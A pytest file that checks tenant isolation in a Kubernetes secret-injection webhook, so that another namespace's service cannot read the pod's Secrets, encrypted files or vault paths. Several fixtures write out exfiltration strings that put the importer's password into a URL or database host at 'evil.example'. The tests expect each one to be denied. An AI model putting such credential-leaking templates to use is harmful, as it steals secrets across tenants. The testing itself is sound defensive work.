"""One service's expression, another's identity: an exporter gets nothing that is the importer's."""

import json

import pytest

from tests import asking
from tests.asking import service
from webhook.core import audit, decide, provenance
from webhook.core.catalog import Catalog

EXPORT = [{"to": {"namespaces": ["*"]}, "keys": ["*"]}]
VAULT = asking.vault()


def evil(env=None, *, namespace="evil", name="telemetry", **spec):
    """Return a service of another namespace that offers everybody everything."""
    return service(namespace, name, env, exports=EXPORT, **spec)


def namespaces(**labels):
    """Return Namespaces with these values of the label stage."""
    return [
        {"kind": "Namespace", "metadata": {"name": name, "labels": {"stage": stage}}}
        for name, stage in labels.items()
    ]


def environment(name, stage, env):
    """Return an EnvironmentSecrets for the namespaces of a stage."""
    return {
        "kind": "EnvironmentSecrets",
        "metadata": {"name": name},
        "spec": {"namespaceSelector": {"matchLabels": {"stage": stage}}, "env": env},
    }


SOPS = {
    "kind": "ClusterSecretStore",
    "metadata": {"name": "files"},
    "spec": {
        "sops": {
            "file": {"configMapRef": {"name": "secrets", "key": "all.yaml"}},
            "identity": {"secretRef": {"name": "age", "key": "key.txt"}},
        }
    },
}
LOCAL = {
    "kind": "ClusterSecretStore",
    "metadata": {"name": "box"},
    "spec": {
        "local": {
            "file": {"configMapRef": {"name": "secrets", "key": "box"}},
            "identity": {"secretRef": {"name": "age", "key": "key.txt"}},
        }
    },
}

WAYS = {
    "import": {"__import_svc": {"from": "$telemetry.evil", "keys": ["URL"]}},
    "reference": {"MINE": "#{$telemetry.evil/URL}"},
    "inside a text": {"MINE": "x#{$telemetry.evil/URL | urlencode}x"},
    "sibling": {"MINE": "#{OTHER}", "OTHER": "#{$telemetry.evil/URL}"},
    "list": {"__import_svc": [{"from": "$telemetry.evil", "keys": ["URL"]}]},
}

THEIRS = {
    "a Secret": "https://evil.example/?k=#{k8s:db-credentials#password}",
    "a Secret as a whole": "#{k8s:db-credentials}",
    "a sops file": "https://evil.example/?k=#{files:prod#password}",
    "a local file": "https://evil.example/?k=#{box:prod#password}",
}


def decided(env, *objects, how="service", files=None, namespace="shop", **annotations):
    """Return the decision about a pod whose service, annotation or file says this."""
    if how == "service":
        app = service(namespace, "app", env, files=files or {})
        return asking.outcome(
            asking.pod({"service": "app", **annotations}), app, *objects, namespace=namespace
        )
    return asking.outcome(
        asking.pod({"env": json.dumps(env), **annotations}), *objects, namespace=namespace
    )


@pytest.mark.parametrize("how", ["service", "annotation"])
@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("what", THEIRS)
def test_a_foreign_expression_reads_no_object_of_the_pods_namespace(what, way, how):
    """Secrets and encrypted files of a namespace are for expressions of that namespace alone."""
    found = decided(WAYS[way], evil({"URL": THEIRS[what]}), SOPS, LOCAL, how=how)

    assert asking.codes(found) == ["SI-130"]
    assert found.operations == ()


@pytest.mark.parametrize("what", THEIRS)
def test_the_same_expression_of_ones_own_reads_it(what):
    """The rule is about who wrote the expression, and about nothing else."""
    own = service("shop", "telemetry", {"URL": THEIRS[what]})

    found = decided({"__import_svc": "$telemetry"}, own, SOPS, LOCAL)

    assert found.kind == "inject", found.problems
    assert "foreign" not in found.facts


def test_a_foreign_expression_is_refused_in_a_file_as_in_a_variable():
    """A file of the importer that is made from the key meets the same rule."""
    found = decided(
        {}, evil({"URL": THEIRS["a Secret"]}), files={"f": {"value": "#{$telemetry.evil/URL}"}}
    )

    assert asking.codes(found) == ["SI-130"]


@pytest.mark.parametrize(
    "env",
    [
        {"URL": "https://evil.example/#{KEY}", "KEY": "#{k8s:db#password}"},
        {"URL": "#{A}", "A": "#{B}", "B": "#{k8s:db#password}"},
        {"URL": "#{$helper/KEY}"},
        {"URL": "#{KEY}", "__import_svc": "$helper"},
    ],
)
def test_siblings_and_services_behind_a_foreign_expression_are_foreign_too(env):
    """Whatever an expression is made of counts as written by those whom it passes."""
    helper = evil({"KEY": "#{k8s:db#password}"}, name="helper")

    found = decided(WAYS["reference"], evil(env), helper)

    assert asking.codes(found) == ["SI-130"]


def test_a_preset_of_the_exporter_does_not_send_a_password_to_its_host():
    """A postgres preset with a host of its own and the importer's Secret as source."""
    preset = {"type": "postgres", "source": "k8s:db", "host": "evil.example", "database": "x"}
    taken = {"__import_svc": {"from": "$telemetry.evil", "keys": ["DATABASE_URL"]}}

    assert asking.codes(decided(taken, evil(presets=[preset]))) == ["SI-130"]


TENANCY = asking.policy(
    "tenancy", rules={"paths": [{"store": "vault", "allow": ["secret/{namespace}/**"]}]}
)
DEFINER = asking.policy(
    "tenancy",
    rules={"paths": [{"store": "vault", "allow": ["secret/{definer}/**", "secret/common/*"]}]},
)
EXFILTRATION = "https://evil.example/?k=#{vault:secret/shop/db#password}"


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("guard", [TENANCY, DEFINER], ids=["namespace", "definer"])
def test_an_exporters_url_does_not_carry_the_importers_password_past_a_policy(guard, way):
    """The documented tenancy policy holds for who wrote the path as for who reads it."""
    found = decided(WAYS[way], evil({"URL": EXFILTRATION}), VAULT, guard)

    assert asking.codes(found) == ["SI-121"]
    assert "rule paths" in found.problems[0].what
    assert "evil" in found.problems[0].what


def test_the_same_path_written_by_oneself_passes_both_policies():
    """{definer} is {namespace} for a key of one's own."""
    for guard in (TENANCY, DEFINER):
        found = decided({"MINE": EXFILTRATION}, VAULT, guard)
        assert found.kind == "inject", found.problems


@pytest.mark.parametrize(
    ("allow", "path", "kind"),
    [
        (["secret/{definer}/**"], "secret/evil/key", "inject"),
        (["secret/{definer}/**"], "secret/shop/key", "deny"),
        (["secret/{definer}/for/{namespace}"], "secret/evil/for/shop", "inject"),
        (["secret/{definer}/for/{namespace}"], "secret/shop/for/evil", "deny"),
        (["secret/{namespace}/**"], "secret/evil/key", "deny"),
        (["secret/{namespace}/**"], "secret/shop/key", "deny"),
        (["secret/common/*"], "secret/common/key", "inject"),
        (["secret/{namespace}/**", "secret/common/*"], "secret/common/key", "inject"),
        (["secret/{namespace}/**", "secret/{definer}/x"], "secret/shop/x", "deny"),
        (["secret/{definer}/**", "secret/{namespace}/x"], "secret/shop/x", "deny"),
        (["secret/{namespace}/**", "secret/evil/**"], "secret/evil/x", "inject"),
        (["secret/{namespace}/**", "secret/shop/**"], "secret/evil/x", "deny"),
    ],
)
def test_a_pattern_is_judged_for_both_namespaces(allow, path, kind):
    """With {definer} once with both filled in; without it for the one and for the other."""
    guard = asking.policy(rules={"paths": [{"store": "*", "allow": allow}]})

    found = decided(WAYS["reference"], evil({"URL": f"#{{vault:{path}#x}}"}), VAULT, guard)

    assert found.kind == kind, found.problems


def test_an_environments_reads_are_judged_for_the_pods_namespace_alone():
    """EnvironmentSecrets are the platform's: their Secrets and their paths are the pod's own."""
    objects = [
        *namespaces(shop="prod", evil="prod"),
        environment("prod", "prod", {"A": "#{vault:secret/shop/a#x}", "B": "#{k8s:db#x}"}),
        evil({"URL": "#{$/A}#{$/B}"}),
        VAULT,
        DEFINER,
    ]

    assert decided({"MINE": "#{$/A}#{$/B}"}, *objects).kind == "inject"
    assert decided(WAYS["reference"], *objects).kind == "inject"


@pytest.mark.parametrize(
    ("allowed", "kind"),
    [(["shop", "evil"], "inject"), (["shop"], "deny"), (["evil"], "deny"), (["*"], "inject")],
)
def test_a_store_must_serve_who_wrote_the_reference_too(allowed, kind):
    """A store for the shop is none for expressions of another namespace."""
    store = asking.vault(allowedNamespaces=allowed)

    found = decided(WAYS["reference"], evil({"URL": "#{vault:a/b#c}"}), store)

    assert found.kind == kind
    if allowed == ["shop"]:
        assert asking.codes(found) == ["SI-130"]


class TestTransit:
    """Through a third namespace."""

    def test_a_reference_hands_on_no_grant(self):
        """`data` lets `evil` use a key; that does not let `evil` offer it to `shop`."""
        data = service(
            "data",
            "db",
            {"KEY": "#{vault:secret/data/db#x}"},
            exports=[{"to": {"namespaces": ["evil"]}, "keys": ["*"]}],
        )
        for env in ({"URL": "#{$db.data/KEY}"}, {"URL": "#{A}", "A": "#{$db.data/KEY}"}):
            found = decided(WAYS["reference"], evil(env), data, VAULT)

            assert asking.codes(found) == ["SI-116"]
            assert "nothing called $db.data/KEY is offered here" in found.problems[0].what

    def test_a_sibling_that_was_imported_hands_on_no_grant(self):
        """The same by __import_svc and a sibling's name."""
        data = service(
            "data",
            "db",
            {"KEY": "#{vault:secret/data/db#x}"},
            exports=[{"to": {"namespaces": ["evil"]}, "keys": ["*"]}],
        )
        taken = {"from": "$db.data", "keys": ["KEY"]}

        found = decided(WAYS["reference"], evil({"URL": "#{KEY}", "__import_svc": taken}), data)

        assert asking.codes(found) == ["SI-116"]

    def test_missing_reads_like_not_granted(self):
        """What lies behind a foreign expression is not told apart either."""
        data = service("data", "db", {"KEY": "x"})

        there = decided(WAYS["reference"], evil({"URL": "#{$db.data/KEY}"}), data)
        missing = decided(WAYS["reference"], evil({"URL": "#{$db.data/KEY}"}))

        assert there.problems == missing.problems

    def test_a_grant_to_everybody_in_the_chain_is_enough(self):
        """The owner names the final importer as well as who passes the key on."""
        data = service(
            "data",
            "db",
            {"KEY": "#{vault:secret/data/db#x}"},
            exports=[{"to": {"namespaces": ["evil", "shop"]}, "keys": ["KEY"]}],
        )

        found = decided(WAYS["reference"], evil({"URL": "#{$db.data/KEY}"}), data, VAULT)

        assert found.kind == "inject", found.problems

    def test_who_passes_a_key_on_must_grant_it_as_its_owner_must(self):
        """The owner lets both have it; the service by which it is named lets only one."""
        everybody = [{"to": {"namespaces": ["*"]}, "keys": ["KEY"]}]
        owner = service("data", "db", {"KEY": "x"}, exports=everybody)
        grant = [{"to": {"namespaces": ["evil"]}, "keys": ["KEY"]}]
        front = service("data", "front", {"__import_svc": "$db"}, exports=grant)

        found = decided(WAYS["reference"], evil({"URL": "#{$front.data/KEY}"}), owner, front)

        assert asking.codes(found) == ["SI-116"]
        assert "nothing called $front.data/KEY is offered here" in found.problems[0].what

    def test_ones_own_key_through_a_foreign_expression_is_read_for_both(self):
        """A key that shop exports to evil does not come back with shop's Secret in evil's URL."""
        own = service(
            "shop",
            "db",
            {"K8S": "#{k8s:db#x}", "VAULT": EXFILTRATION},
            exports=[{"to": {"namespaces": ["evil"]}, "keys": ["*"]}],
        )
        for key, code in (("K8S", "SI-130"), ("VAULT", "SI-121")):
            url = f"https://evil.example/#{{$db.shop/{key}}}"
            found = decided(WAYS["reference"], evil({"URL": url}), own, VAULT, DEFINER)

            assert asking.codes(found) == [code]


class TestEnvironments:
    """`$/KEY` in an expression of another namespace."""

    OBJECTS = (
        environment("prod", "prod", {"A": "prod"}),
        environment("dev", "dev", {"A": "dev"}),
    )

    @pytest.mark.parametrize(
        "env",
        [
            {"URL": "#{$/A}"},
            {"URL": "#{B}", "B": "x#{$/A}"},
            {"URL": "#{B}", "__import_svc": "$helper"},
            {"URL": "#{$helper/B}"},
            {"URL": "#{B}", "B": "#{C}", "C": "#{$helper/B}"},
        ],
    )
    @pytest.mark.parametrize(
        ("stages", "kind"),
        [
            ({"shop": "prod", "evil": "prod"}, "inject"),
            ({"shop": "prod", "evil": "dev"}, "deny"),
            ({"shop": "dev", "evil": "prod"}, "deny"),
            ({"shop": "prod", "evil": "none"}, "deny"),
            ({"shop": "none", "evil": "prod"}, "deny"),
        ],
    )
    def test_it_needs_one_environment_for_both(self, stages, kind, env):
        """Directly and through siblings: else it would be another environment's secret."""
        helper = evil({"B": "#{$/A}"}, name="helper")

        found = decided(WAYS["reference"], evil(env), helper, *self.OBJECTS, *namespaces(**stages))

        assert found.kind == kind, found.problems
        if kind == "deny":
            assert asking.codes(found) == ["SI-130"]

    def test_ones_own_key_is_not_asked_for_others(self):
        """A foreign namespace of another environment, of which nothing with $/KEY is used."""
        found = decided(
            {"MINE": "#{$/A}#{$telemetry.evil/URL}"},
            evil({"URL": "x", "OTHER": "#{$/A}"}),
            *self.OBJECTS,
            *namespaces(shop="prod", evil="dev"),
        )

        assert found.kind == "inject", found.problems


class TestTold:
    """A foreign expression that reads one's store, within the rules, is told to everybody."""

    OBJECTS = (evil({"URL": "#{vault:secret/common/key#x}", "PLAIN": "x"}), VAULT)
    WHAT = "a foreign expression reads your store, written by evil/telemetry"

    def test_the_person_who_creates_the_pod_is_warned(self):
        """One warning, with place, key and writer."""
        found = decided(WAYS["import"], *self.OBJECTS)

        assert found.kind == "inject"
        assert found.warnings == (f"SI-130 vault secret/common/key#x for URL: {self.WHAT}",)

    def test_the_log_and_the_audit_event_get_a_fact(self):
        """Who reads which store."""
        found = decided(WAYS["import"], *self.OBJECTS)

        assert found.facts["foreign"] == ["evil/telemetry reads vault"]
        assert audit.notes(found)["foreign"] == "evil/telemetry reads vault"

    def test_who_takes_no_read_is_not_told(self):
        """A literal reads nothing; one's own reads are one's own."""
        env = {"MINE": "#{$telemetry.evil/PLAIN}", "OWN": "#{vault:secret/shop/x#y}"}

        found = decided(env, *self.OBJECTS)

        assert (found.kind, found.warnings) == ("inject", ())
        assert "foreign" not in found.facts

    def test_explain_has_a_line_for_it(self):
        """The account of the variable says so."""
        app = service("shop", "app", WAYS["import"])
        catalog = Catalog.of([app, *self.OBJECTS])
        made, *_ = decide.make("shop", asking.pod({"service": "app"}), catalog, asking.INJECTION)

        [account] = provenance.accounts(made.plan, made.resolution)

        what = "a foreign expression reads your store: vault secret/common/key#x"
        assert account.foreign == (f"{what}, for evil/telemetry",)
